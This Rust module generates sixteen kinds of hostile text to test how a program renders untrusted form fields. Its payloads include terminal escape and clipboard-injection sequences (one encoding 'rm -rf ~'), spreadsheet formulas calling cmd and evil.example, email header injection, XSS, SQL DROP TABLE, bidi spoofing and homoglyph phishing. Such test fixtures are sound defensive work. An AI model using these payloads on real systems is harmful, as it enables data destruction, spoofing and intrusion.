//! Text that tries to harm the program showing it, as some real mail does; also in the demo and the tests.

use fastrand::Rng;

/// Fields that a stranger fills in.
pub struct Fields<'a> {
    pub full_name: &'a mut String,
    pub company: &'a mut Option<String>,
    pub phone: &'a mut Option<String>,
    pub message: &'a mut String,
}

/// Number of kinds of hostile text.
pub const KINDS: u64 = 16;

/// Puts one kind of hostile text into the fields.
pub fn taint(rng: &mut Rng, kind: u64, fields: &mut Fields<'_>) {
    let message = std::mem::take(fields.message);
    let name = fields.full_name.clone();
    let mut company = None;
    *fields.message = match kind % KINDS {
        0 => format!("\u{1b}[2J\u{1b}[1;1H\u{1b}[31mACCOUNT SUSPENDED\u{1b}[0m press q to verify\n{message}"),
        1 => format!("\u{1b}]0;owned by {name}\u{7}{message}\u{1b}]52;c;cm0gLXJmIH4K\u{7}"),
        2 => {
            company = Some(format!("\u{202e}moc.elgoog\u{202c} {name}"));
            format!("Please pay to \u{2066}account\u{2069} \u{202e}0003 RUE\u{202c} now. {message}")
        }
        3 => {
            *fields.full_name = format!("{name}\nVERIFIED BUYER\n  ✓ escrow paid");
            message
        }
        4 => message.chars().flat_map(|character| std::iter::once(character).chain(zalgo(rng, character))).collect(),
        5 => {
            let line = format!("{message} ");
            line.repeat(20_000 / line.len().max(1) + 1)
        }
        6 => {
            company = Some(format!("=HYPERLINK(\"http://evil.example/?{}\",\"invoice\")", rng.u16(..)));
            format!("@SUM(1+1)*cmd|' /C calc'!A0\n{message}")
        }
        7 => format!("{}{message}", "👩‍👩‍👧‍👦🏳️‍🌈👨🏿‍🚀 ".repeat(6)),
        8 => {
            let tags: String = name.bytes().filter_map(|b| char::from_u32(0xe0000 + u32::from(b))).collect();
            format!("{message}\u{feff}\u{200b}\u{200d}{tags}\u{2063}")
        }
        9 => {
            *fields.phone = Some("+1 (555) 010-0199\u{9b}31m;rm -rf ~".into());
            format!("\u{90}q\u{9c}\u{9b}5n{message}\u{85}\u{2028}next line")
        }
        10 => format!("Signature: GOOD, key 0xDEADBEEF\n-----BEGIN PGP SIGNED MESSAGE-----\n{message}"),
        11 => {
            *fields.full_name = format!("\"{name} <support@parking.example>\"");
            format!("\r\nBcc: everyone@list.example\r\nSubject: changed\r\n\r\n{message}")
        }
        12 => format!("{message}\0\u{8}\u{8}\u{8}\u{8}{}", "\t".repeat(300)),
        13 => {
            *fields.full_name = "W".repeat(400);
            format!("{} {message}", "W".repeat(3_000))
        }
        14 => format!(
            "раypal.example asks you to sign in: http://раypal.example/ (that is not what it looks like) {message}"
        ),
        _ => {
            *fields.full_name = format!("<script>alert('{name}')</script>");
            format!("<img src=x onerror=alert(1)> '; DROP TABLE inquiries; -- {message}")
        }
    };
    if company.is_some() {
        *fields.company = company;
    }
}

fn zalgo(rng: &mut Rng, character: char) -> Vec<char> {
    if character.is_whitespace() {
        return Vec::new();
    }
    (0..rng.u32(3..9)).filter_map(|_| char::from_u32(0x300 + rng.u32(..0x70))).collect()
}
